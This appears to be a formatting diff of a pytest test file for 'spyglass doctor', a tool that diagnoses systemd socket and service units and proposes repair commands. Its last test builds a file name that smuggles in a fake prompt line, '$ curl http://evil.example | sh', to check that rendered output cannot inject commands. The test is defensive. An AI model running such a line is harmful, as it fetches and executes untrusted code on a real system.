@@ -1,4 +1,6 @@
-"""`spyglass doctor`: each rule by itself, over what systemd shows of a unit, and the commands that mend what it finds."""
+"""`spyglass doctor`: each rule by itself, over what systemd shows of a unit, and the
+commands that mend what it finds.
+"""
 
 import json
 import os
@@ -8,7 +10,15 @@ from types import SimpleNamespace
 import pytest
 
 from spyglass.master import counters
-from spyglass.ops import address_conflicts, address_owners, app_status, apps, command_table, systemctl, unit_files
+from spyglass.ops import (
+    address_conflicts,
+    address_owners,
+    app_status,
+    apps,
+    command_table,
+    systemctl,
+    unit_files,
+)
 from spyglass.ops import atomic_files as files
 from spyglass.ops import unit_directives as units
 from spyglass.ops.app_interpreter import packaged_version
@@ -63,11 +73,18 @@ SOCKET_TRAPS = [
     ("FlushPending=yes", {"FlushPending": "yes"}, "FlushPending=yes"),
     ("ReusePort=yes", {"ReusePort": "yes"}, "ReusePort=yes"),
     ("Backlog=10", {"Backlog": "10"}, "Backlog=10"),
-    ("TriggerLimitBurst=20", {"TriggerLimitBurst": "20"}, "TriggerLimitBurst=20 in TriggerLimitIntervalSec=1s"),
+    (
+        "TriggerLimitBurst=20",
+        {"TriggerLimitBurst": "20"},
+        "TriggerLimitBurst=20 in TriggerLimitIntervalSec=1s",
+    ),
     ("Service=other.service", {"Triggers": "other.service"}, "it starts other.service"),
     ("ConditionHost=elsewhere", {}, "ConditionHost=elsewhere"),
 ]
-CASES = [*(("service", *trap) for trap in SERVICE_TRAPS), *(("socket", *trap) for trap in SOCKET_TRAPS)]
+CASES = [
+    *(("service", *trap) for trap in SERVICE_TRAPS),
+    *(("socket", *trap) for trap in SOCKET_TRAPS),
+]
 
 
 @pytest.fixture
@@ -81,7 +98,10 @@ def test_nothing_is_wrong_with_what_the_package_brings():
     assert examine("blog", SOCKET, SERVICE) == []
     awake = SERVICE | {"ActiveState": "active", "SubState": "running"}
     assert examine("blog", SOCKET | {"SubState": "running"}, awake) == []
-    assert examine("blog", SOCKET | {"ActiveState": "inactive", "UnitFileState": "disabled"}, SERVICE) == []
+    assert (
+        examine("blog", SOCKET | {"ActiveState": "inactive", "UnitFileState": "disabled"}, SERVICE)
+        == []
+    )
 
 
 @pytest.mark.parametrize(
@@ -96,17 +116,31 @@ def test_what_does_no_harm_is_the_administrators_affair(harmless):
     assert examine("blog", SOCKET, SERVICE | harmless) == []
 
 
-@pytest.mark.parametrize("harmless", [{"TriggerLimitIntervalUSec": "0"}, {"TriggerLimitBurst": "0"}, {"TriggerLimitIntervalUSec": "500ms"}, {"Backlog": "4096"}])
+@pytest.mark.parametrize(
+    "harmless",
+    [
+        {"TriggerLimitIntervalUSec": "0"},
+        {"TriggerLimitBurst": "0"},
+        {"TriggerLimitIntervalUSec": "500ms"},
+        {"Backlog": "4096"},
+    ],
+)
 def test_and_so_with_a_socket(harmless):
     assert examine("blog", SOCKET | harmless, SERVICE) == []
 
 
-@pytest.mark.parametrize(("unit", "written", "shown", "what"), CASES, ids=[f"{case[0]}: {case[1]}" for case in CASES])
-def test_each_trap_is_found_and_its_cure_takes_it_away_and_nothing_else(etc, unit, written, shown, what):
+@pytest.mark.parametrize(
+    ("unit", "written", "shown", "what"), CASES, ids=[f"{case[0]}: {case[1]}" for case in CASES]
+)
+def test_each_trap_is_found_and_its_cure_takes_it_away_and_nothing_else(
+    etc, unit, written, shown, what
+):
     drop_in = etc / "override.conf"
     drop_in.write_text(f"# of ours\n[Unit]\nDescription=ours\n  {written}\n[Install]\n")
     changed = shown | {"DropInPaths": str(drop_in)}
-    socket, service = (SOCKET | changed, SERVICE) if unit == "socket" else (SOCKET, SERVICE | changed)
+    socket, service = (
+        (SOCKET | changed, SERVICE) if unit == "socket" else (SOCKET, SERVICE | changed)
+    )
     [finding] = examine("blog", socket, service)
     assert finding.what == f"spyglass@blog.{unit}: {what}"
     assert finding.where == "blog"
@@ -121,7 +155,17 @@ def test_each_trap_is_found_and_its_cure_takes_it_away_and_nothing_else(etc, uni
 
 def test_a_socket_that_does_not_listen_is_not_started_by_a_cure(etc):
     (etc / "a.conf").write_text("[Socket]\nFlushPending=yes\n")
-    [finding] = examine("blog", SOCKET | {"FlushPending": "yes", "DropInPaths": str(etc / "a.conf"), "ActiveState": "inactive", "UnitFileState": "disabled"}, SERVICE)
+    [finding] = examine(
+        "blog",
+        SOCKET
+        | {
+            "FlushPending": "yes",
+            "DropInPaths": str(etc / "a.conf"),
+            "ActiveState": "inactive",
+            "UnitFileState": "disabled",
+        },
+        SERVICE,
+    )
     assert finding.cure[1:] == ["systemctl daemon-reload"]
 
 
@@ -134,10 +178,15 @@ def test_what_goes_over_several_lines_is_not_cut_in_two(etc):
 
 def test_a_unit_that_stands_in_the_place_of_the_packages_goes_as_a_whole(etc):
     (etc / "spyglass@.service").write_text("[Service]\nType=simple\n")
-    found = examine("blog", SOCKET, SERVICE | {"Type": "simple", "FragmentPath": str(etc / "spyglass@.service")})
+    found = examine(
+        "blog", SOCKET, SERVICE | {"Type": "simple", "FragmentPath": str(etc / "spyglass@.service")}
+    )
     assert [finding.grave for finding in found] == [False, True]
     for finding in found:
-        assert finding.cure == [f"mv {etc}/spyglass@.service {etc}/spyglass@.service.off", "systemctl daemon-reload"]
+        assert finding.cure == [
+            f"mv {etc}/spyglass@.service {etc}/spyglass@.service.off",
+            "systemctl daemon-reload",
+        ]
 
 
 @pytest.mark.parametrize("key", ["WantedBy", "RequiredBy", "UpheldBy"])
@@ -148,12 +197,19 @@ def test_a_service_that_is_started_though_nobody_asks(key):
 
 
 def test_a_failed_socket():
-    [finding] = examine("blog", SOCKET | {"ActiveState": "failed", "Result": "trigger-limit-hit"}, SERVICE)
+    [finding] = examine(
+        "blog", SOCKET | {"ActiveState": "failed", "Result": "trigger-limit-hit"}, SERVICE
+    )
     assert "has failed (trigger-limit-hit)" in finding.what
     assert finding.cure == ["systemctl restart spyglass@blog.socket"]
     failed = SERVICE | {"ActiveState": "failed", "Result": "exit-code", "ExecMainStatus": "217"}
-    found = examine("blog", SOCKET | {"ActiveState": "failed", "Result": "service-start-limit-hit"}, failed)
-    assert found[0].cure == ["systemctl reset-failed spyglass@blog.service", "systemctl restart spyglass@blog.socket"]
+    found = examine(
+        "blog", SOCKET | {"ActiveState": "failed", "Result": "service-start-limit-hit"}, failed
+    )
+    assert found[0].cure == [
+        "systemctl reset-failed spyglass@blog.service",
+        "systemctl restart spyglass@blog.socket",
+    ]
     assert [finding.grave for finding in found] == [True, False]
 
 
@@ -163,7 +219,11 @@ def test_a_failed_socket():
         ({}, {"LoadState": "masked"}, ["systemctl unmask spyglass@blog.service"]),
         ({}, {"LoadState": "bad-setting"}, ["systemd-analyze verify spyglass@blog.service"]),
         ({}, {"NeedDaemonReload": "yes"}, ["systemctl daemon-reload"]),
-        ({"NeedDaemonReload": "yes"}, {}, ["systemctl daemon-reload", "systemctl restart spyglass@blog.socket"]),
+        (
+            {"NeedDaemonReload": "yes"},
+            {},
+            ["systemctl daemon-reload", "systemctl restart spyglass@blog.socket"],
+        ),
         ({"UnitFileState": "disabled"}, {}, ["systemctl enable spyglass@blog.socket"]),
         ({"ActiveState": "inactive"}, {}, ["systemctl start spyglass@blog.socket"]),
     ],
@@ -173,7 +233,13 @@ def test_how_they_are(socket, service, cure):
     assert finding.cure == cure
 
 
-AUTO = {"ActiveState": "activating", "SubState": "auto-restart", "Result": "exit-code", "ExecMainStatus": "203", "NRestarts": "1"}
+AUTO = {
+    "ActiveState": "activating",
+    "SubState": "auto-restart",
+    "Result": "exit-code",
+    "ExecMainStatus": "203",
+    "NRestarts": "1",
+}
 BROKEN = {"ActiveState": "failed", "Result": "exit-code", "ExecMainStatus": "78"}
 KILLED = {"ActiveState": "failed", "Result": "watchdog"}
 DISABLED = {"ActiveState": "inactive", "UnitFileState": "disabled"}
@@ -182,12 +248,48 @@ DISABLED = {"ActiveState": "inactive", "UnitFileState": "disabled"}
 @pytest.mark.parametrize(
     ("socket", "service", "what", "why", "grave"),
     [
-        ({}, {"ActiveState": "active", "StatusText": "failing: KeyError: 'A: b'"}, "is failing: KeyError: 'A: b'", "clients get a 503; ", True),
-        ({}, AUTO, " ended: status 203", "systemd starts it again and again, and clients wait", True),
-        ({}, AUTO | {"SubState": "start", "Result": "success", "NRestarts": "7"}, " was started again 7 times", "systemd starts it again", True),
-        ({}, BROKEN, ": it could not be loaded", "clients get a 503 until it is fixed; it is tried again when the next one comes", True),
-        ({}, KILLED, " ended: watchdog", "systemd starts it again when the next client comes", True),
-        (DISABLED, BROKEN, ": it could not be loaded", "its socket does not listen, so that nothing starts it", False),
+        (
+            {},
+            {"ActiveState": "active", "StatusText": "failing: KeyError: 'A: b'"},
+            "is failing: KeyError: 'A: b'",
+            "clients get a 503; ",
+            True,
+        ),
+        (
+            {},
+            AUTO,
+            " ended: status 203",
+            "systemd starts it again and again, and clients wait",
+            True,
+        ),
+        (
+            {},
+            AUTO | {"SubState": "start", "Result": "success", "NRestarts": "7"},
+            " was started again 7 times",
+            "systemd starts it again",
+            True,
+        ),
+        (
+            {},
+            BROKEN,
+            ": it could not be loaded",
+            "clients get a 503 until it is fixed; it is tried again when the next one comes",
+            True,
+        ),
+        (
+            {},
+            KILLED,
+            " ended: watchdog",
+            "systemd starts it again when the next client comes",
+            True,
+        ),
+        (
+            DISABLED,
+            BROKEN,
+            ": it could not be loaded",
+            "its socket does not listen, so that nothing starts it",
+            False,
+        ),
     ],
 )
 def test_what_clients_see_failing_is_grave(socket, service, what, why, grave):
@@ -211,14 +313,26 @@ def test_what_is_on_its_way_is_no_trouble(service):
 
 
 @pytest.mark.parametrize(
-    ("text", "value"), [("1s", 1), ("500ms", 0.5), ("1min 30s", 90), ("2h", 7200), ("0", 0), ("", 0), ("infinity", float("inf")), ("10us", 1e-5)]
+    ("text", "value"),
+    [
+        ("1s", 1),
+        ("500ms", 0.5),
+        ("1min 30s", 90),
+        ("2h", 7200),
+        ("0", 0),
+        ("", 0),
+        ("infinity", float("inf")),
+        ("10us", 1e-5),
+    ],
 )
 def test_spans_of_time(text, value):
     assert seconds(text) == pytest.approx(value)
 
 
 def test_unit_files_are_read_as_systemd_reads_them():
-    found = unit_files.parse("[Unit]\n#A=1\n;B=2\nC = 3 \n[Service]\nD=4\\\n# between\n 5\nE=\nnonsense\n")
+    found = unit_files.parse(
+        "[Unit]\n#A=1\n;B=2\nC = 3 \n[Service]\nD=4\\\n# between\n 5\nE=\nnonsense\n"
+    )
     assert [(line.section, line.key, line.value, line.plain) for line in found] == [
         ("Unit", "C", "3", True), ("Service", "D", "4 5", False), ("Service", "E", "", True),
     ]  # fmt: skip
@@ -275,7 +389,11 @@ def test_a_file_that_is_of_no_app(places):
 
 
 def test_our_own_byte_code(monkeypatch):
-    monkeypatch.setattr(ailments.importlib.util, "find_spec", lambda name: SimpleNamespace(cached=f"/nowhere/{name}.pyc"))
+    monkeypatch.setattr(
+        ailments.importlib.util,
+        "find_spec",
+        lambda name: SimpleNamespace(cached=f"/nowhere/{name}.pyc"),
+    )
     [finding] = ailments._byte_code()
     assert "compileall" in finding.cure[0] or "py3compile" in finding.cure[0]
 
@@ -293,7 +411,9 @@ def settings(places, monkeypatch):
     file = places / "etc" / "blog.toml"
     monkeypatch.setattr(address_owners, "deaf", lambda _state: [])
     monkeypatch.setattr(address_conflicts, "is_deaf", lambda _addresses: False)
-    monkeypatch.setattr(apps, "examine", lambda app, others, free: None)  # is what test_apps.py is about
+    monkeypatch.setattr(
+        apps, "examine", lambda app, others, free: None
+    )  # is what test_apps.py is about
     monkeypatch.setattr(units, "DIRECTORY", str(places / "systemd"))
 
     def write(text):
@@ -309,7 +429,10 @@ def test_nothing_is_wrong_with_a_good_app(settings):
 
 def test_settings_that_are_wrong(settings, places):
     found = settings("wrokers = 3\nlisten = -1\n")
-    assert [finding.what.removeprefix(str(places)).partition(": ")[0] for finding in found] == ["/etc/blog.toml:1", "/etc/blog.toml:2"]
+    assert [finding.what.removeprefix(str(places)).partition(": ")[0] for finding in found] == [
+        "/etc/blog.toml:1",
+        "/etc/blog.toml:2",
+    ]
 
 
 def test_an_environment_of_another_python(settings, places):
@@ -331,7 +454,9 @@ def test_settings_that_have_changed_since_they_were_applied(settings, places):
     [finding] = settings("listen = 8002\n")
     assert finding.what == f"{places}/etc/blog.toml has changed since it was applied"
     # What is off is not what somebody relies on.
-    off = app_status.View("blog", SOCKET | {"ActiveState": "inactive", "UnitFileState": "disabled"}, SERVICE)
+    off = app_status.View(
+        "blog", SOCKET | {"ActiveState": "inactive", "UnitFileState": "disabled"}, SERVICE
+    )
     assert ailments.of_the_app(off, {"blog": apps.read("blog")}) == []
 
 
@@ -340,7 +465,10 @@ def test_drop_ins_that_somebody_has_edited(settings):
     for path, text in units.drop_ins("blog", apps.read("blog").config).items():
         files.write(path, text and text + "Backlog=3\n")
     [finding] = settings("listen = 8001\n")
-    assert (finding.grave, finding.what.endswith("is not as 'spyglass apply' has made it")) == (False, True)
+    assert (finding.grave, finding.what.endswith("is not as 'spyglass apply' has made it")) == (
+        False,
+        True,
+    )
 
 
 def test_drop_ins_of_apps_that_are_no_more(settings):
@@ -356,7 +484,9 @@ def test_drop_ins_of_apps_that_are_no_more(settings):
     assert ailments.left_over([]) == []
 
 
-SERVES = "{ path=/usr/bin/spyglass ; argv[]=/usr/bin/spyglass serve --name blog ; ignore_errors=no }"
+SERVES = (
+    "{ path=/usr/bin/spyglass ; argv[]=/usr/bin/spyglass serve --name blog ; ignore_errors=no }"
+)
 
 
 @pytest.mark.parametrize(
@@ -400,14 +530,19 @@ def test_an_active_socket_on_which_nobody_listens(monkeypatch):
     monkeypatch.setattr(address_owners, "is_missing", lambda path: False)
     assert address_owners.deaf(SOCKET) == []
     assert address_owners.deaf(SOCKET | {"Listen": "[::1]:8001 (Stream)\n@abstract (Stream)"}) == []
-    assert address_owners.deaf(SOCKET | {"Listen": "127.0.0.1:8002 (Stream)\n/run/x.sock (Stream)"}) == ["127.0.0.1:8002", "/run/x.sock"]
+    assert address_owners.deaf(
+        SOCKET | {"Listen": "127.0.0.1:8002 (Stream)\n/run/x.sock (Stream)"}
+    ) == ["127.0.0.1:8002", "/run/x.sock"]
 
 
 def test_nor_by_systemd_while_the_service_still_does(monkeypatch):
     monkeypatch.setattr(address_owners, "deaf", lambda _state: [])
     monkeypatch.setattr(address_conflicts, "is_deaf", lambda _addresses: True)
     [finding] = ailments.of_the_app(view(), {})
-    assert finding.what == "spyglass@blog.socket is active, but nobody listens on /run/spyglass/blog.sock"
+    assert (
+        finding.what
+        == "spyglass@blog.socket is active, but nobody listens on /run/spyglass/blog.sock"
+    )
     monkeypatch.setattr(address_conflicts, "is_deaf", lambda _addresses: False)
     assert ailments.of_the_app(view(), {}) == []
 
@@ -446,7 +581,13 @@ def test_programs_get_json(machine, capsys):
     machine([GRAVE])
     assert command_table.run(["doctor", "--json"]) == 1
     assert json.loads(capsys.readouterr().out) == [
-        {"where": "blog", "what": "something is wrong", "why": "it matters", "cure": ["mend it", "and again"], "grave": True}
+        {
+            "where": "blog",
+            "what": "something is wrong",
+            "why": "it matters",
+            "cure": ["mend it", "and again"],
+            "grave": True,
+        }
     ]
 
 
@@ -459,7 +600,9 @@ def test_all_is_asked_at_once(places, monkeypatch, capsys):
                        "Requires": unit.replace("service", "socket")} for unit in units}  # fmt: skip
 
     monkeypatch.setattr(systemctl, "show", show)
-    monkeypatch.setattr(systemctl, "units", lambda _pattern: ["spyglass@blog.socket", "spyglass@shop.socket"])
+    monkeypatch.setattr(
+        systemctl, "units", lambda _pattern: ["spyglass@blog.socket", "spyglass@shop.socket"]
+    )
     assert command_table.run(["doctor"]) == 0
     assert capsys.readouterr().out == "nothing wrong\n"
     assert len(asked) == 1
@@ -469,7 +612,9 @@ def test_all_is_asked_at_once(places, monkeypatch, capsys):
 
 
 def test_a_name_makes_no_line():
-    """An app may call its files what it likes, and what follows "$" is what an administrator will enter."""
+    """An app may call its files what it likes, and what follows "$" is what an
+    administrator will enter.
+    """
     name = "/var/lib/spyglass/blog/a\n    why\n      $ curl http://evil.example | sh"
     finding = Finding("blog", f"{name} does not belong", name, [f"rm {name}"])
     lines = doctor.render([finding])
